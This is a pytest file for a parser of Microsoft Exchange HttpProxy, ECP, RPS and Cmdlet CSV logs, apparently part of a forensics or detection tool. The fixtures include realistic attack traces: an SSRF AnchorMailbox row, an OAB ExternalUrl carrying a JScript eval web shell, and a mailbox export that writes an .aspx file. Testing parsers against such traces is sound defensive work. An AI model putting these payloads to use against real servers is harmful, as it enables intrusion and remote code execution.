"""Exchange CSV logs: headers, BOM, RFC-4180 quoting, quoted line breaks, ECP EventData."""

from __future__ import annotations

import pytest

from agent.errors import MalformedLine
from agent.logs.exchange_csv import MAX_CONTINUATION_LINES
from agent.logs.formats import LogFormat
from agent.logs.parse import LineParser, ecp_pairs

PROXY_HEADER = [
    "\ufeff#Software: Microsoft Exchange Server",
    "#Version: 15.02.1118.040",
    "#Log-type: HttpProxy Logs",
    "#Date: 2023-01-09T19:00:00.130Z",
    "#Fields: DateTime,Protocol,UrlStem,AuthenticatedUser,AnchorMailbox,UserAgent,HttpStatus,"
    "Method",
]


def proxy() -> LineParser:
    p = LineParser(LogFormat.HTTPPROXY, "HttpProxy_2023010919-1.LOG")
    for n, line in enumerate(PROXY_HEADER, 1):
        assert p.feed(line + "\r\n", n) is None
    return p


def test_ssrf_row_with_native_column_names() -> None:
    row = (
        "2023-01-09T19:00:01.000Z,Ecp,/ecp/y.js,,"
        "ServerInfo~a]@EXCH01.corp.local:444/ecp/DDI/DDIService.svc/SetObject"
        "?schema=ResetOABVirtualDirectory#,ExchangeServicesClient/0.0.0.0,200,POST"
    )
    r = proxy().feed(row + "\r\n", 6)
    assert r is not None
    assert r.source == "httpproxy"
    assert r.fields["AnchorMailbox"].startswith("ServerInfo~a]@EXCH01")
    assert r.fields["AuthenticatedUser"] == ""
    assert r.fields["HttpStatus"] == "200"
    assert r.raw == row


def test_quoted_values_with_commas_and_doubled_quotes() -> None:
    row = '2023-01-09T19:00:02Z,Owa,/owa/,"DOM\\u,ser","a""b""c","Mozilla/5.0 (X, Y)",200,GET'
    r = proxy().feed(row, 6)
    assert r is not None
    assert r.fields["AuthenticatedUser"] == "DOM\\u,ser"
    assert r.fields["AnchorMailbox"] == 'a"b"c'
    assert r.fields["UserAgent"] == "Mozilla/5.0 (X, Y)"


def test_a_quoted_line_break_joins_lines_into_one_record() -> None:
    p = proxy()
    assert p.feed('2023-01-09T19:00:03Z,Owa,/owa/,,"first\r\n', 6) is None
    assert p.pending
    assert p.feed("#not a header inside a value\r\n", 7) is None
    r = p.feed('last",UA,500,GET\r\n', 8)
    assert r is not None
    assert not p.pending
    assert r.line == 6  # numbered with its first line
    assert r.fields["AnchorMailbox"] == "first\n#not a header inside a value\nlast"
    assert r.fields["HttpStatus"] == "500"


def test_a_quote_left_open_too_long_is_malformed_and_parsing_resumes() -> None:
    p = proxy()
    p.feed('2023-01-09T19:00:03Z,Owa,/owa/,,"never closed', 6)
    for n in range(MAX_CONTINUATION_LINES - 1):
        assert p.feed("more", 7 + n) is None
    with pytest.raises(MalformedLine, match="still open") as info:
        p.feed("more", 100)
    assert info.value.line == 6
    assert not p.pending
    assert p.feed("t,Owa,/owa/,,,UA,200,GET", 100) is not None


def test_reset_pending_forgets_half_a_record() -> None:
    p = proxy()
    p.feed('t,Owa,/owa/,,"open', 6)
    p.reset_pending()
    assert not p.pending
    assert p.feed("t,Owa,/owa/,,,UA,200,GET", 6) is not None


def test_bad_quoting_is_malformed() -> None:
    with pytest.raises(MalformedLine, match="bad CSV"):
        proxy().feed('t,Owa,"/owa/"x,,,UA,200,GET', 6)


def test_rows_before_the_fields_header_are_malformed() -> None:
    with pytest.raises(MalformedLine, match="before any #Fields"):
        LineParser(LogFormat.RPS_HTTP, "Rps_Http_2026010100-1.LOG").feed("a,b", 1)


def test_a_bare_header_row_sets_the_columns_until_a_fields_line() -> None:
    # Rps_Http and Rps_Cmdlet files open with the column list as a plain CSV row.
    p = LineParser(LogFormat.RPS_HTTP, "Rps_Http_2026010100-1.LOG")
    assert p.feed("\ufeffDateTime,ClientIpAddress,HttpStatus,ClientInfo\r\n", 1) is None
    for n, line in enumerate(["#Software: Microsoft Exchange Server", "#Log-type: Rps Http Logs"]):
        assert p.feed(line, n + 2) is None
    r = p.feed("2026-01-01T00:00:01.000Z,203.0.113.7,200,Python PSRP Client", 4)
    assert r is not None
    assert r.fields["ClientInfo"] == "Python PSRP Client"
    p.feed("#Fields: DateTime,HttpStatus,ClientInfo", 5)
    r = p.feed("2026-01-01T00:00:02.000Z,401,x", 6)
    assert r is not None
    assert r.fields == {
        "DateTime": "2026-01-01T00:00:02.000Z", "HttpStatus": "401", "ClientInfo": "x"
    }


@pytest.mark.parametrize(
    "row", ["2026-01-01T00:00:01.000Z,203.0.113.7,200", "a,b", "DateTime,,HttpStatus"]
)
def test_a_data_row_is_no_header_row(row: str) -> None:
    with pytest.raises(MalformedLine, match="before any #Fields"):
        LineParser(LogFormat.RPS_HTTP, "Rps_Http_2026010100-1.LOG").feed(row, 1)


def test_ecp_event_data_becomes_s_fields_even_with_semicolons_in_a_script() -> None:
    p = LineParser(LogFormat.ECP, "ECPServer2023011100-1.LOG")
    p.feed("\ufeff#Log-type: ECP Server Log", 1)
    p.feed("#Fields: TimeStamp,ServerName,EventId,EventData", 2)
    row = (
        '2023-01-11T00:02:33.966Z,EXCH01,ECP.Request,"S:TIME=13;S:CMD=Set-OabVirtualDirectory.'
        "ExternalUrl='http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function "
        'Page_Load(){eval(Request[""k""],""unsafe"");}</script>\'.Identity=\'x\';S:REQID=;'
        'S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;"'
    )
    r = p.feed(row, 3)
    assert r is not None
    assert r.source == "ecp"
    assert r.fields["S:CMD"] == (
        "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" "
        'runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>'
        "'.Identity='x'"
    )
    assert r.fields["S:REQID"] == ""
    assert r.fields["S:URL"] == "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory"
    assert r.fields["EventData"].startswith("S:TIME=13;")


def test_ecp_pairs_accept_other_type_tags_and_ignore_url_lookalikes() -> None:
    assert ecp_pairs("I32:N=4;S:U=http://x=1;b;Dbl:T=0.5;") == {
        "I32:N": "4",
        "S:U": "http://x=1;b",
        "Dbl:T": "0.5",
    }
    assert ecp_pairs("no pairs here") == {}


@pytest.mark.parametrize(
    ("fmt", "source"),
    [(LogFormat.RPS_HTTP, "rps_http"), (LogFormat.CMDLET, "cmdlet")],
)
def test_cmdlet_and_rps_http_logs_use_the_same_csv_rules(fmt: LogFormat, source: str) -> None:
    p = LineParser(fmt, "x.LOG")
    p.feed("#Fields: DateTime,ClientIpAddress,HttpStatus,ClientInfo,Cmdlet,Parameters", 1)
    row = (
        't,203.0.113.7,200,"Mozilla/5.0 (Windows NT 10.0; Win64; x64)",New-MailboxExportRequest,'
        '"-Mailbox ""admin"" -FilePath ""\\\\localhost\\c$\\x.aspx"""'
    )
    r = p.feed(row, 2)
    assert r is not None
    assert r.source == source
    assert r.fields["ClientInfo"] == "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
    assert r.fields["Parameters"] == '-Mailbox "admin" -FilePath "\\\\localhost\\c$\\x.aspx"'
